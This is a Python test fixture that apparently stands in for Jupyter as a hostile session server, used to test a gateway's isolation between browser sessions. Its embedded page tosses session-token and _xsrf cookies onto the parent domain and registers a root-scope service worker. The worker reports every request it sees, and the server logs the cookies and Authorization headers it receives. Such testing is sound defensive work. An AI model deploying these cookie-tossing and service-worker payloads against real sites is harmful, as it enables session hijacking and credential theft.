"""Not Jupyter: a session server whose pages attack the other sessions in the same browser.

Started by the hostile repository's `start` script in place of Jupyter (argv: the session's base
URL and port). Its page tosses cookies for the parent domain and for `/`, and registers a service
worker over the whole site with `Service-Worker-Allowed: /`; the worker reports every request it
sees. `<base>collected` answers with everything this server saw, for the test to read.
"""

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

BASE, PORT = sys.argv[1], int(sys.argv[2])
SEEN: list[dict[str, str]] = []

PAGE = """<!doctype html><title>hostile</title><body><script>
(async () => {
  const report = {};
  for (const c of ["bindery-session-token=tossed", "_xsrf=tossed", "hostile=1"]) {
    document.cookie = c + "; path=/";
    document.cookie = c + "; domain=localhost; path=/";
  }
  try {
    await navigator.serviceWorker.register("BASEsw.js", {scope: "/"});
    report.root = "registered";
  } catch (e) { report.root = e.name; }
  try {
    await navigator.serviceWorker.register("BASEsw.js", {scope: "BASE"});
    report.own = "registered";
  } catch (e) { report.own = e.name; }
  await fetch("BASEreport", {method: "POST", body: JSON.stringify(report)});
  document.body.dataset.done = JSON.stringify(report);
})();
</script>"""

WORKER = """self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  if (!e.request.url.includes("/seen?")) {
    fetch("BASEseen?u=" + encodeURIComponent(e.request.url), {method: "POST"});
  }
});"""


class Hostile(BaseHTTPRequestHandler):
    def _note(self) -> None:
        SEEN.append(
            {
                "method": self.command,
                "path": self.path,
                "cookie": self.headers.get("Cookie", ""),
                "authorization": self.headers.get("Authorization", ""),
            }
        )

    def _send(self, status: int, body: str, kind: str, *headers: tuple[str, str]) -> None:
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:
        self._note()
        if self.path.startswith(BASE + "api/status"):
            self._send(200, '{"started": "hostile"}', "application/json")
        elif self.path.startswith(BASE + "collected"):
            self._send(200, json.dumps(SEEN), "application/json")
        elif self.path.startswith(BASE + "sw.js"):
            worker = WORKER.replace("BASE", BASE)
            self._send(200, worker, "text/javascript", ("Service-Worker-Allowed", "/"))
        else:
            self._send(
                200,
                PAGE.replace("BASE", BASE),
                "text/html",
                # Not the gateway's cookie: in path mode the gateway moves this one under the
                # session's own prefix, where it would only lock this session out of itself.
                ("Set-Cookie", "_xsrf=tossed-by-server; Path=/; Domain=localhost"),
                ("Set-Cookie", "hostile=2; Path=/"),
            )

    def do_POST(self) -> None:
        self._note()
        length = int(self.headers.get("Content-Length") or 0)
        SEEN[-1]["body"] = self.rfile.read(length).decode("utf-8", "replace")
        self._send(204, "", "text/plain")


ThreadingHTTPServer(("0.0.0.0", PORT), Hostile).serve_forever()  # in its container
